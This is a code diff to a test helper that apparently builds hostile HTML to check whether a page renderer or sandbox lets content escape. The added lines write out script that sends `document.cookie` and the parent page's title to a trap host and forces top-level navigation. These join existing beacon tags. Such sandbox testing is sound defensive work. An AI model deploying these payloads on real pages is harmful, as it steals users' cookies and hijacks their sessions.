@@ -192,7 +192,10 @@ def _late(markup: str) -> str:
 
 def _hostile(trap: str) -> str:
     """Everything a page can try on the one who shows it; each success is seen at the trap."""
-    return f"""<script>fetch('{trap}/fetch'); new Image().src = '{trap}/script';</script>
+    return f"""<script>fetch('{trap}/fetch'); new Image().src = '{trap}/script';
+document.cookie = 'taken=1'; fetch('{trap}/cookie?' + encodeURIComponent(document.cookie));
+try {{ fetch('{trap}/parent?' + parent.document.title); }} catch {{}}
+setTimeout(() => {{ top.location = '{trap}/navigate'; }}, 50);</script>
 <img src="{trap}/pixel.png" onerror="location.href='{trap}/onerror'" alt="">
 <link rel="stylesheet" href="{trap}/style.css">
 <iframe src="{trap}/frame"></iframe><object data="{trap}/object"></object>
